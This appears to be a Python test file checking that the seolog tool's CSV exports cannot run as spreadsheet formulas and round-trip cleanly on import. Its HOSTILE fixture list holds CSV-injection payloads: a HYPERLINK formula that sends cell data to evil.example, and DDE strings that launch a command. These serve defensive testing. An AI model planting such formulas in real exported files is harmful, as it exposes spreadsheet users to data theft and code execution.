"""Every CSV seolog writes is safe to open in a spreadsheet (OWASP "CSV injection"): a text cell
starting with = + - @, a tab or a carriage return gets a leading quote, control characters go,
numbers stay numbers, and `logs import` reads an export back exactly as it was written."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from seolog.csvsafe import TRIGGERS, cell, restore
from tests.conftest import Cli

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=already quoted",
    "- fixed the titles",
]


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def logged(cli: Cli) -> Cli:
    assert cli("sites", "add", "https://www.acme.example", "--name", "acme").exit_code == 0
    assert cli("clients", "add", "=Acme", "--rate", "95", "--site", "acme").exit_code == 0
    for description in [*HOSTILE, "Rewrote 14 meta descriptions", "bell\x07 and escape\x1b[31m"]:
        r = cli("logs", "add", "--site", "acme", "--time", "1h", "--tag", "@q4", "--", description)
        assert r.exit_code == 0, r.stderr
    return cli


def test_the_work_log_export_cannot_run_as_formulas(logged: Cli, tmp_path: Path):
    out = tmp_path / "hours.csv"
    assert logged("logs", "export", "-o", str(out)).exit_code == 0
    rows = _read(out.read_text(encoding="utf-8"))
    cells = [v for row in rows for v in row.values()]
    assert not [c for c in cells if c.startswith(TRIGGERS)]  # nothing a spreadsheet would run
    descriptions = {row["description"] for row in rows}
    for text in HOSTILE:
        assert "'" + text.strip() in descriptions  # stored without its leading tab
    assert "Rewrote 14 meta descriptions" in descriptions  # ordinary text is untouched
    assert "bell and escape[31m" in descriptions  # control characters are gone
    assert {row["client"] for row in rows} == {"'=Acme"}
    assert {row["tags"] for row in rows} == {"'@q4"}


def test_an_export_imports_back_as_it_was(logged: Cli, tmp_path: Path):
    out = tmp_path / "hours.csv"
    assert logged("logs", "export", "-o", str(out)).exit_code == 0
    before = logged("logs", "list", "--format", "json").json()
    for row in before:
        assert logged("logs", "rm", str(row["id"]), "--yes").exit_code == 0
    r = logged("logs", "import", str(out))
    assert r.exit_code == 0, r.stderr
    after = logged("logs", "list", "--format", "json").json()
    described = sorted(row["description"] for row in after)
    expected = sorted(row["description"] for row in before)
    expected = [d.replace("\x07", "").replace("\x1b", "") for d in expected]
    assert described == expected
    assert {row["client"] for row in after} == {"=Acme"}


def test_the_summary_quotes_names_and_keeps_numbers_numbers(logged: Cli):
    r = logged("logs", "summary", "--by", "client", "--format", "csv")
    assert r.exit_code == 0, r.stderr
    rows = _read(r.stdout)
    assert rows[0]["group"] == "'=Acme"
    hours = [row["hours"] for row in rows]
    assert all(re.fullmatch(r"\d+(\.\d+)?", h) for h in hours), hours  # no quote on a number


def test_no_csv_is_written_but_through_the_one_helper():
    """csvsafe is the only module that makes a CSV writer: any other would skip the quoting."""
    makers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = [
        str(p.relative_to(ROOT))
        for p in (ROOT / "src" / "seolog").rglob("*.py")
        if makers.search(p.read_text(encoding="utf-8"))
    ]
    assert found == ["src/seolog/csvsafe.py"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("-x", "'-x"),
        ("@here", "'@here"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("'plain", "'plain"),
        ("-5", "-5"),  # a plain negative number cannot run
        ("-1.25", "-1.25"),
        ("-1+2", "'-1+2"),
        ("a\x00b\x1fc\x7fd\x85e", "abcde"),
        ("two\nlines\r\nand\ttab", "two\nlines\r\nand\ttab"),
        ("", ""),
        (-5, -5),  # numbers written as numbers stay numbers
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_cells(value, written):
    assert cell(value) == written


_NO_CONTROLS = st.text(
    alphabet=st.characters(
        blacklist_categories=("Cs",),
        blacklist_characters=[
            chr(c) for c in [*range(0, 9), 11, 12, *range(14, 32), *range(127, 160)]
        ],
    )
)


@given(_NO_CONTROLS)
def test_a_cell_never_runs_and_reads_back_as_written(text: str):
    written = cell(text)
    assert isinstance(written, str)
    assert not written.startswith(TRIGGERS) or re.fullmatch(r"-?\d+(\.\d+)?", written)
    assert restore(written) == text
